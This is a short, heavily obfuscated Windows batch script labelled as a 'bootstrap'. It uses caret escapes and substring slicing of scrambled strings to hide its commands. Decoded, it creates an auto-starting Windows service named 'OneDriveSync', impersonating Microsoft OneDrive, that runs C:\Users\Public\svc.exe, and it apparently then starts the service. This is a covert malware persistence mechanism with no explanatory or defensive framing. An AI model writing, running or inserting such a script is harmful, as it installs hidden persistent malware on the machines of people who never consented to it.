REM bootstrap 7253 v3
@^e^cho ^off
^s^e^t "ufcs=Pmua:cOxe/8o2iZdtsnYUrhB.b\7vyfGlCSD"
%ufcs:~17,1%%ufcs:~5,1% %ufcs:~5,1%%ufcs:~21,1%%ufcs:~-28,1%%ufcs:~3,1%%ufcs:~-20,1%%ufcs:~8,1% %ufcs:~6,1%%ufcs:~18,1%%ufcs:~-28,1%%ufcs:~35,1%%ufcs:~-15,1%%ufcs:~-23,1%%ufcs:~-8,1%%ufcs:~8,1%%ufcs:~-2,1%%ufcs:~29,1%%ufcs:~18,1%%ufcs:~-31,1% %ufcs:~-11,1%%ufcs:~13,1%%ufcs:~-18,1%%ufcs:~-36,1%%ufcs:~-33,1%%ufcs:~16,1%%ufcs:~22,1%= "%ufcs:~5,1%%ufcs:~-35,1%%ufcs:~15,1%%ufcs:~-12,1%%ufcs:~-28,1%%ufcs:~7,1%%ufcs:~-28,1% %ufcs:~-27,1%%ufcs:~5,1% %ufcs:~33,1%%ufcs:~-32,1%%ufcs:~26,1%%ufcs:~-16,1%%ufcs:~17,1%%ufcs:~8,1%%ufcs:~21,1%%ufcs:~17,1%%ufcs:~26,1%%ufcs:~0,1%%ufcs:~2,1%%ufcs:~25,1%%ufcs:~-4,1%%ufcs:~13,1%%ufcs:~5,1%%ufcs:~-10,1%%ufcs:~17,1%%ufcs:~28,1%%ufcs:~-31,1%%ufcs:~-12,1%%ufcs:~-28,1%%ufcs:~7,1%%ufcs:~8,1%" %ufcs:~17,1%%ufcs:~-20,1%%ufcs:~-33,1%%ufcs:~-15,1%%ufcs:~-20,1%= %ufcs:~-33,1%%ufcs:~2,1%%ufcs:~16,1%%ufcs:~11,1%
@^e^cho o^f^f
s^et "qclg=SeUrhsd2vJLOcyGintaDp"
%qclg:~5,1%%qclg:~12,1% %qclg:~5,1%%qclg:~17,1%%qclg:~18,1%%qclg:~3,1%%qclg:~17,1% %qclg:~-10,1%%qclg:~16,1%%qclg:~-20,1%%qclg:~19,1%%qclg:~3,1%%qclg:~15,1%%qclg:~8,1%%qclg:~1,1%%qclg:~0,1%%qclg:~13,1%%qclg:~16,1%%qclg:~12,1%
